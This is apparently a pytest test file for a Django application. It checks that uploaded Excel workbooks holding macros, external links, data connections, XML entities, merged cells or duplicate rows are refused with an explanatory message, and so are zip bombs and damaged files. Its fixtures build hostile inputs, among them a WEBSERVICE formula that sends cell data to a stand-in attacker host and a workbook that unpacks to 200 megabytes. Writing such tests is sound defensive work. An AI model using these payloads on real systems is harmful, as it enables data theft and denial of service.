"""Attacks 39 to 42 on workbooks that come back: each gets a sentence, and nothing of it is done."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from sightline.actions.models import Action
from sightline.actions.workbook import workbook_of
from sightline.audittrail.models import Entry
from tests import factories as make
from tests.attacks.world import World

MACRO = {"xl/vbaProject.bin": b"Attribute VB_Name"}
OUTSIDE = {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
QUERY = {"xl/connections.xml": b"<connections/>"}
ENTITY = {"xl/worksheets/x.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet>&a;</worksheet>'}


def with_parts(content: bytes, parts: dict[str, bytes]) -> bytes:
    """Return a workbook with more parts in its package."""
    stream = io.BytesIO(content)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as package:
        for name, text in parts.items():
            package.writestr(name, text)
    return stream.getvalue()


def unpacking_to_200_mb(content: bytes) -> bytes:
    """Return a workbook of a few hundred kilobytes that is 200 megabytes once it is unpacked."""
    stream = io.BytesIO(content)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as package, package.open("xl/media/a.bin", "w") as part:
        for _ in range(200):
            part.write(bytes(1_000_000))
    return stream.getvalue()


def edited(content: bytes, edit: Callable[[Any], None]) -> bytes:
    """Return a workbook after somebody worked on its sheet."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    edit(book["Actions"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def formula(sheet: Any) -> None:
    sheet["B2"] = '=WEBSERVICE("http://attacker.example/?"&A2)'


def renamed(sheet: Any) -> None:
    sheet.title = "Sheet1"
    for cell in sheet[1]:
        cell.value = f"x{cell.column}"


def merged(sheet: Any) -> None:
    sheet.merge_cells("A2:G2")


def twice(sheet: Any) -> None:
    sheet.append([cell.value for cell in sheet[2]])
    sheet.cell(2, 2).value, sheet.cell(sheet.max_row, 2).value = "One way", "Another way"


HOSTILE: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "formula": (lambda book: edited(book, formula), "The workbook holds formulas."),
    "merged cells": (lambda book: edited(book, merged), "The workbook has merged cells."),
    "macro": (lambda book: with_parts(book, MACRO), "The workbook holds macros."),
    "link outside": (lambda book: with_parts(book, OUTSIDE), "The workbook links to other files."),
    "connection": (lambda book: with_parts(book, QUERY), "The workbook links to other files."),
    "entity": (lambda book: with_parts(book, ENTITY), "entities"),
    "bomb": (unpacking_to_200_mb, "unpacks"),
    "another sheet": (lambda book: edited(book, renamed), "The workbook has not the sheet Actions."),
    "no workbook": (lambda book: b"PK\x03\x04" + book[40:400], "cannot be read as an Excel workbook"),
    "cut short": (lambda book: book[: len(book) // 2], "cannot be read as an Excel workbook"),
}


@pytest.fixture
def book(world: World) -> bytes:
    """The workbook of one action as it goes out."""
    ours = world.ours
    by = make.standing(ours.manager, ours.partnership)
    return workbook_of([Action.objects.select_related("owner", "deputy", "group").get(pk=ours.action.pk)], by)


def bring(world: World, content: bytes) -> Any:
    upload = SimpleUploadedFile("book.xlsx", content)
    return world.manager.post(reverse("actions:bring", args=[world.ours.slug]), {"workbook": upload}, follow=True)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_workbook_of_actions_gets_a_sentence(world: World, book: bytes, name: str) -> None:
    make_it, sentence = HOSTILE[name]
    answer = bring(world, make_it(book))
    assert (answer.status_code, sentence in answer.content.decode()) == (422, True)
    assert not Entry.objects.filter(verb="action.workbook_loaded").exists()


def test_a_row_that_stands_twice_is_named_and_nothing_can_be_done(world: World, book: bytes) -> None:
    before = Action.objects.get(pk=world.ours.action.pk)
    text = bring(world, edited(book, twice)).content.decode()
    assert ("Stands in two rows. Delete one of the two." in text, "Do all of it" in text) == (True, False)
    after = Action.objects.get(pk=before.pk)
    assert (after.title, after.version) == (before.title, before.version)
